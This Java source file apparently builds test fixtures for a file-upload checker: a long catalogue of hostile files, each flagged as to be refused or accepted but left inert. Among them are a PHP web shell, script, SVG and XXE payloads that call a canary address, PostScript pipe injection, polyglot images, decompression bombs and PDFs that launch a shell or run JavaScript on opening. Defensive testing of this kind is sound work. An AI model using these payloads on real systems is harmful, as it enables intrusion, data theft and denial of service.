package org.zhengcheng.hostile;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Files that somebody hands in to have them run, opened, unpacked or drawn. */
final class HostileFiles {

    private static final String PHP = "<?php system($_GET['c']); ?>";
    private static final String SCRIPT = "<script>fetch('{address}/x')</script>";

    private HostileFiles() {}

    /**
     * A file.
     *
     * @param taken whether it may be taken, since it is a picture or a document besides; it must then lie still
     */
    record Hostile(String what, String name, byte[] content, boolean taken) {

        @Override
        public String toString() {
            return what;
        }
    }

    static Stream<Hostile> all(Canary canary) {
        List<Hostile> files = new ArrayList<>();
        ofOtherKinds(files);
        ofTwoKinds(files);
        ofBombs(files);
        ofDocuments(files);
        return files.stream()
                .map(file -> new Hostile(
                        file.what(), file.name(), replaced(file.content(), canary.address()), file.taken()));
    }

    /** Byte by byte, since much of it is no text. */
    private static byte[] replaced(byte[] content, String address) {
        String text = new String(content, StandardCharsets.ISO_8859_1);
        return text.contains("{address}")
                ? text.replace("{address}", address).getBytes(StandardCharsets.ISO_8859_1)
                : content;
    }

    private static void ofOtherKinds(List<Hostile> files) {
        String svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'><image href='{address}/x'/></svg>";
        for (String name : List.of("a.pdf", "a.png", "a.jpg")) {
            refused(files, "HTML as " + name, name, text("<!doctype html><html>" + SCRIPT));
            refused(files, "SVG as " + name, name, text(svg));
            refused(files, "ZIP as " + name, name, zip("x.txt", text("x")));
            refused(files, "program of Windows as " + name, name, bytes("4D5A90000300000004000000FFFF0000"));
            refused(files, "program of Linux as " + name, name, bytes("7F454C4602010100000000000000000002003E00"));
            refused(files, "class as " + name, name, bytes("CAFEBABE00000034"));
            refused(files, "objects as " + name, name, bytes("ACED0005737200"));
            refused(files, "shell script as " + name, name, text("#!/bin/sh\ntouch x\n"));
            refused(files, "PHP as " + name, name, text(PHP));
        }
        refused(files, "SVG", "a.svg", text(svg));
        refused(files, "HTML", "a.html", text("<html>" + SCRIPT));
        refused(files, "XHTML", "a.xhtml", text("<html xmlns='http://www.w3.org/1999/xhtml'/>"));
        refused(files, "XML with an entity", "a.xml", text("<!DOCTYPE x [<!ENTITY y SYSTEM '{address}'>]><x>&y;</x>"));
        refused(files, "document with macros", "a.docm", zip("word/vbaProject.bin", text("x")));
        refused(files, "document", "a.docx", zip("word/document.xml", text("<x/>")));
        refused(files, "sheet with macros", "a.xlsm", zip("xl/vbaProject.bin", text("x")));
        refused(files, "old document", "a.doc", bytes("D0CF11E0A1B11AE1" + "00".repeat(600)));
        refused(files, "rich text with an object", "a.rtf", text("{\\rtf1{\\object\\objocx{\\*\\objdata 00}}}"));
        refused(files, "PostScript", "a.ps", text("%!PS\n(%pipe%touch x) (w) file"));
        refused(files, "PostScript as PDF", "a.pdf", text("%!PS-Adobe-3.0\n(%pipe%touch x) (w) file"));
        refused(files, "picture that fetches", "a.mvg", text("push graphic-context\nfill 'url({address}/x)'"));
        refused(files, "play list", "a.m3u8", text("#EXTM3U\n#EXTINF:1,\n{address}/x"));
        refused(files, "link", "a.url", text("[InternetShortcut]\nURL={address}"));
        refused(files, "program in a page", "a.hta", text("<hta:application/>" + SCRIPT));
        refused(files, "GIF", "a.gif", picture("gif"));
        refused(files, "GIF as PNG", "a.png", picture("gif"));
        refused(files, "BMP as JPEG", "a.jpg", picture("bmp"));
        refused(files, "JPEG as PNG", "a.png", picture("jpg"));
        refused(files, "PNG as PDF", "a.pdf", picture("png"));
        refused(files, "PDF as PNG", "a.png", pdf(""));
        refused(files, "PDF as HTML", "a.html", pdf(""));
        refused(files, "PDF as a program", "a.pdf.exe", pdf(""));
        refused(files, "PDF without an ending", "a", pdf(""));
        refused(files, "nothing", "a.pdf", new byte[0]);
        refused(files, "more than twenty megabytes", "a.pdf", Arrays.copyOf(pdf(""), 20 * 1024 * 1024 + 1));
    }

    private static void ofTwoKinds(List<Hostile> files) {
        taken(files, "JPEG and ZIP", "a.jpg", join(picture("jpg"), zip("x.class", text("x"))));
        taken(files, "PNG and ZIP", "a.png", join(picture("png"), zip("x.class", text("x"))));
        taken(files, "PNG and HTML", "a.png", join(picture("png"), text("<html>" + SCRIPT)));
        taken(files, "JPEG and PHP", "a.jpg", join(picture("jpg"), text(PHP)));
        taken(files, "PDF and ZIP", "a.pdf", join(pdf(""), zip("x.class", text("x"))));
        taken(files, "PDF and HTML behind it", "a.pdf", join(pdf(""), text("<html>" + SCRIPT)));
        taken(files, "HTML in front of a PDF", "a.pdf", join(text("<html>" + SCRIPT), pdf("")));
        taken(files, "ZIP in front of a PDF", "a.pdf", join(zip("x", text("x")), pdf("")));
        taken(files, "GIF and PDF", "a.pdf", join(text("GIF89a"), pdf("")));
        taken(files, "text in a PNG", "a.png", withChunk(picture("png"), "tEXt", text("Comment\0" + PHP)));
        taken(
                files,
                "packed text in a PNG",
                "a.png",
                withChunk(picture("png"), "zTXt", join(text("x\0\0"), deflated(new byte[50_000_000]))));
        taken(
                files,
                "profile in a PNG",
                "a.png",
                withChunk(picture("png"), "iCCP", join(text("x\0\0"), deflated(new byte[50_000_000]))));
        taken(files, "comment in a JPEG", "a.jpg", withComment(picture("jpg"), text(PHP)));
    }

    private static void ofBombs(List<Hostile> files) {
        for (int side : List.of(15_000, 65_535, Integer.MAX_VALUE)) {
            taken(files, "PNG that says it is " + side + " wide", "a.png", claiming(side, side));
        }
        taken(files, "PNG a hundred million high", "a.png", claiming(1, 100_000_000));
        taken(files, "PNG without a size", "a.png", claiming(0, 0));
        taken(files, "JPEG that says it is 65535 wide", "a.jpg", claimingJpeg());
        taken(files, "PNG cut off", "a.png", Arrays.copyOf(picture("png"), 40));
        taken(files, "JPEG cut off", "a.jpg", Arrays.copyOf(picture("jpg"), 100));
        refused(files, "ZIP that unpacks to a gigabyte", "a.zip", zip("x", new byte[100_000_000]));
        refused(files, "ZIP in a ZIP in a ZIP", "a.pdf", zip("x", zip("x", zip("x", new byte[10_000_000]))));
    }

    private static void ofDocuments(List<Hostile> files) {
        document(files, "script when it opens", "/OpenAction<</S/JavaScript/JS(app.launchURL\\('{address}/x'\\))>>");
        document(files, "program when it opens", "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>");
        document(files, "address when it opens", "/OpenAction<</S/URI/URI({address}/x)>>");
        document(
                files,
                "other document when it opens",
                "/OpenAction<</S/GoToR/F<</FS/URL/F({address}/x.pdf)>>/D[0/Fit]>>");
        document(
                files,
                "form that sends itself",
                "/AcroForm<</Fields[]/XFA(<x/>)>>/OpenAction<</S/SubmitForm/F<</FS/URL/F({address}/x)>>>>");
        document(files, "file inside", "/Names<</EmbeddedFiles<</Names[(x.exe)<</F(x.exe)/EF<</F 3 0 R>>>>]>>>>");
        document(files, "script for every page", "/AA<</O<</S/JavaScript/JS(this.submitForm\\('{address}'\\))>>>>");
        for (String page : List.of(
                "/Contents<</F<</FS/URL/F({address}/x)>>/Length 0>>",
                "/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R",
                "/MediaBox[0 0 1000000000 1000000000]",
                "/MediaBox[0 0 1e38 1e38]",
                "/MediaBox[0 0 0 0]",
                "/MediaBox[0 0 -5 -5]",
                "/Rotate 999999999999")) {
            taken(
                    files,
                    "PDF with a page of " + page.substring(0, Math.min(30, page.length())),
                    "a.pdf",
                    pdfPage(page));
        }
        taken(
                files,
                "PDF with a billion pages",
                "a.pdf",
                raw("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1000000000/Kids[]>>"));
        taken(
                files,
                "PDF whose pages hold themselves",
                "a.pdf",
                raw("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[2 0 R]>>"));
        taken(
                files,
                "PDF whose parent is its child",
                "a.pdf",
                raw(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        "<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>",
                        "<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>"));
        taken(
                files,
                "PDF that is deep",
                "a.pdf",
                raw(
                        "<</Type/Catalog/Pages 2 0 R/X" + "[".repeat(100_000) + "]".repeat(100_000) + ">>",
                        "<</Type/Pages/Count 0/Kids[]>>"));
        taken(
                files,
                "PDF whose table leads to itself",
                "a.pdf",
                text(
                        "%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Prev 9/Root 1 0 R>>\nstartxref\n9\n%%EOF"));
        taken(
                files,
                "PDF that is locked",
                "a.pdf",
                text(
                        "%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(x)/P -1>>>>\n%%EOF"));
        taken(files, "PDF of nothing but its name", "a.pdf", text("%PDF-1.4"));
        taken(files, "PDF that unpacks to a gigabyte", "a.pdf", bombPdf());
    }

    private static void document(List<Hostile> files, String what, String catalog) {
        taken(files, "PDF with " + what, "a.pdf", pdf(catalog));
    }

    private static void refused(List<Hostile> files, String what, String name, byte[] content) {
        files.add(new Hostile(what, name, content, false));
    }

    private static void taken(List<Hostile> files, String what, String name, byte[] content) {
        files.add(new Hostile(what, name, content, true));
    }

    static byte[] pdf(String catalog) {
        return raw(
                "<</Type/Catalog/Pages 2 0 R" + catalog + ">>",
                "<</Type/Pages/Count 1/Kids[3 0 R]>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>");
    }

    private static byte[] pdfPage(String page) {
        String box = page.contains("MediaBox") ? "" : "/MediaBox[0 0 100 100]";
        return raw(
                "<</Type/Catalog/Pages 2 0 R>>",
                "<</Type/Pages/Count 1/Kids[3 0 R]>>",
                "<</Type/Page/Parent 2 0 R" + box + page + ">>",
                // Draws itself twice.
                "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>/Length 10>>stream\n/X Do /X Do\nendstream",
                "<</Length 5>>stream\n/X Do\nendstream");
    }

    private static byte[] bombPdf() {
        byte[] packed = deflated(new byte[100_000_000]);
        String head = new String(
                raw(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
                        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"),
                StandardCharsets.ISO_8859_1);
        String stream = "4 0 obj<</Filter/FlateDecode/Length " + packed.length + ">>stream\n";
        return join(
                text(head.substring(0, head.indexOf("trailer")) + stream),
                packed,
                text("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"));
    }

    private static byte[] raw(String... objects) {
        StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
        for (int i = 0; i < objects.length; i++) {
            pdf.append(i + 1).append(" 0 obj").append(objects[i]).append("endobj\n");
        }
        return text(pdf + "trailer<</Root 1 0 R>>\n%%EOF\n");
    }

    static byte[] picture(String kind) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(8, 6, BufferedImage.TYPE_INT_RGB), kind, bytes);
            return bytes.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    private static byte[] claiming(int width, int height) {
        byte[] png = picture("png");
        ByteBuffer header = ByteBuffer.wrap(png);
        header.putInt(16, width).putInt(20, height);
        CRC32 sum = new CRC32();
        sum.update(png, 12, 17);
        header.putInt(29, (int) sum.getValue());
        return png;
    }

    private static byte[] claimingJpeg() {
        byte[] jpeg = picture("jpg");
        for (int i = 0; i < jpeg.length - 9; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) {
                Arrays.fill(jpeg, i + 5, i + 9, (byte) 0xFF);
            }
        }
        return jpeg;
    }

    private static byte[] withChunk(byte[] png, String type, byte[] content) {
        CRC32 sum = new CRC32();
        sum.update(text(type));
        sum.update(content);
        byte[] chunk = ByteBuffer.allocate(12 + content.length)
                .putInt(content.length)
                .put(text(type))
                .put(content)
                .putInt((int) sum.getValue())
                .array();
        return join(Arrays.copyOf(png, 33), chunk, Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] withComment(byte[] jpeg, byte[] comment) {
        byte[] segment = ByteBuffer.allocate(4 + comment.length)
                .put((byte) 0xFF)
                .put((byte) 0xFE)
                .putShort((short) (comment.length + 2))
                .put(comment)
                .array();
        return join(Arrays.copyOf(jpeg, 2), segment, Arrays.copyOfRange(jpeg, 2, jpeg.length));
    }

    static byte[] zip(String name, byte[] content) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipOutputStream out = new ZipOutputStream(bytes)) {
                out.putNextEntry(new ZipEntry(name));
                out.write(content);
            }
            return bytes.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    private static byte[] deflated(byte[] content) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (DeflaterOutputStream out = new DeflaterOutputStream(bytes, new Deflater(9))) {
                out.write(content);
            }
            return bytes.toByteArray();
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
    }

    static byte[] join(byte[]... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            bytes.writeBytes(part);
        }
        return bytes.toByteArray();
    }

    static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(String hexadecimal) {
        return HexFormat.of().parseHex(hexadecimal);
    }
}
